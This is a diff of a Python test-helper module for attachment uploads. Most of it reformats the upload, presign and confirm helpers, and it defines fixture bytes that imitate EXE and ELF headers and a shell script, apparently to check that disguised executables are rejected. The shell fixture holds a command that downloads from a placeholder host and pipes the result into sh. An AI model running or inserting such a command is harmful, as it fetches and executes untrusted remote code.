@@ -1,4 +1,5 @@
 """Shared by the attachment tests: a session to attach to, and real file bytes."""
+
 from __future__ import annotations
 
 import hashlib
@@ -82,25 +83,49 @@ def png_with_text_and_exif() -> bytes:
 
 
 # A Windows executable's first bytes (the DOS header of any .exe), named like a screenshot.
-EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run in DOS mode."
+EXE = (
+    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
+    + b"\x00" * 48
+    + b"This program cannot be run in DOS mode."
+)
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
 SHEBANG = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
 
 
-def upload(http: httpx.Client, who, sid: str, data: bytes, *, name: str = "shot.png", node_id: str = "scope",
-           attachment_id: str | None = None, **params) -> httpx.Response:
+def upload(
+    http: httpx.Client,
+    who,
+    sid: str,
+    data: bytes,
+    *,
+    name: str = "shot.png",
+    node_id: str = "scope",
+    attachment_id: str | None = None,
+    **params,
+) -> httpx.Response:
     query = {"name": name, "node_id": node_id, **params}
     if attachment_id is not None:
         query["attachment_id"] = attachment_id
-    return http.post(f"/api/v1/sessions/{sid}/attachments", headers={**who.headers,
-                     "Content-Type": "application/octet-stream"}, params=query, content=data)
+    return http.post(
+        f"/api/v1/sessions/{sid}/attachments",
+        headers={**who.headers, "Content-Type": "application/octet-stream"},
+        params=query,
+        content=data,
+    )
 
 
 # --- the pre-signed flow on S3: presign, PUT straight to the bucket, confirm ----------------------
 
+
 def presign(http: httpx.Client, who, sid: str, data: bytes, **extra) -> httpx.Response:
-    body = {"node_id": "scope", "name": "shot.png", "size": len(data), "sha256": sha(data),
-            "content_type": "image/png", **extra}
+    body = {
+        "node_id": "scope",
+        "name": "shot.png",
+        "size": len(data),
+        "sha256": sha(data),
+        "content_type": "image/png",
+        **extra,
+    }
     return http.post(f"/api/v1/sessions/{sid}/attachments/presign", headers=who.headers, json=body)
 
 
@@ -111,4 +136,6 @@ def put(answer: dict, data: bytes) -> httpx.Response:
 
 
 def confirm(http: httpx.Client, who, sid: str, att_id: str, **params) -> httpx.Response:
-    return http.post(f"/api/v1/sessions/{sid}/attachments/{att_id}/confirm", headers=who.headers, params=params)
+    return http.post(
+        f"/api/v1/sessions/{sid}/attachments/{att_id}/confirm", headers=who.headers, params=params
+    )
